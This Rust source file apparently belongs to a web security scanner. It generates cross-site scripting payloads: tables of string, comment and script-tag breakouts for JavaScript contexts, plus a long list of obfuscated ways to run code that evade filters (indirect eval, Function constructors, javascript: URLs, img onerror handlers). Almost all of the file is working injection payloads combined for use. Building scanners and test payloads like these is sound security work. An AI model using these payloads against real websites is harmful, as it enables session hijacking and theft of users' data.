//! Inside a script: out of its strings, templates, comments and objects; and other ways to say what runs.

/// What ends the string that the text stands in, and what makes the rest of the line harmless.
const ENDS: &[(&str, &str)] = &[
    ("\";", ";//"),
    ("';", ";//"),
    ("`;", ";//"),
    ("\"-", "-\""),
    ("'-", "-'"),
    ("\"+", "+\""),
    ("'+", "+'"),
    ("\"*", "*\""),
    ("\",", ",\""),
    ("',", ",'"),
    ("\"^", "^\""),
    ("\"in ", " in\""),
    ("\"?", ":\""),
    ("\"||", "||\""),
    ("\"&&", "&&\""),
    ("\\\";", ";//"),
    ("\\';", ";//"),
    ("\\\\\";", ";//"),
    ("\\\\';", ";//"),
    ("\\", ";//"),
    ("${", "}"),
    ("`${", "}`"),
    ("\"]);", ";//"),
    ("'});", ";//"),
    ("\"}];", ";//"),
    ("\"}}};", ";//"),
    ("\n", "\n"),
    ("\r\n", "//"),
    ("\u{2028}", "//"),
    ("\u{2029}", "\u{2029}"),
    ("*/", "/*"),
    ("//\n", ""),
    ("/;", ";/"),
    ("]]>\n", ""),
    ("</script><script>", "</script>"),
    ("</SCRIPT\t><script>", ""),
    ("<!--<script>\n", "-->"),
    ("<!--\n", ""),
    ("-->\n", ""),
    ("\\u0022;", "//"),
    ("\\x27;", "//"),
    ("&quot;;", ";//"),
    ("&#39;;", ";//"),
    ("%22;", ";//"),
    ("\"})(),(()=>{", "})();({\"x\":\""),
    ("0;", ""),
    ("null;", ""),
    ("{\"__proto__\":", "}"),
    ("\":", ",\""),
    (");", ";("),
    ("(", ")"),
];

/// Ways to say `@` that don't look like it.
const DISGUISES: &[&str] = &[
    "eval('@')",
    "Function('@')()",
    "[].constructor.constructor('@')()",
    "setTimeout('@')",
    "setInterval`@`",
    "setTimeout`@`",
    "(0,eval)('@')",
    "top['ev'+'al']('@')",
    "self[/eval/.source]('@')",
    "globalThis?.eval?.('@')",
    "window['\\x65val']('@')",
    "new Function`@`()",
    "Reflect.apply(eval,null,['@'])",
    "document.write('<script>@</scr'+'ipt>')",
    "import('data:text/javascript,@')",
    "location='javascript:@'",
    "location.href=`javascript:@`",
    "open('javascript:@','_self')",
    "document.body.innerHTML='<img src onerror=@>'",
    "with(top)@",
    "void @",
    "!@",
    "(()=>{@})()",
    "(function(){@}())",
    "async function f(){@};f()",
    "throw onerror=()=>@,1",
    "try{throw 1}catch(e){@}",
    "[1].map(()=>@)",
    "`${@}`",
    "Promise.resolve().then(()=>@)",
    "queueMicrotask(()=>@)",
    "requestAnimationFrame(()=>@)",
    "x={toString:()=>@}+''",
    "({get a(){@}}).a",
    "class X{static{@}}",
    "label:@",
    "if(1)@",
    "do @\nwhile(0)",
];

pub(in crate::payloads) fn payloads() -> Vec<String> {
    let mut all = Vec::new();
    for (start, end) in ENDS {
        for code in ["@", "eval('@')", "void(@)"] {
            all.push(format!("{start}{code}{end}"));
        }
    }
    for code in DISGUISES {
        all.push((*code).to_owned());
        all.push(format!("\";{code};//"));
        all.push(format!("<script>{code}</script>"));
        all.push(format!("<img src=x onerror=\"{code}\">"));
        all.push(format!("javascript:{code}"));
    }
    all
}
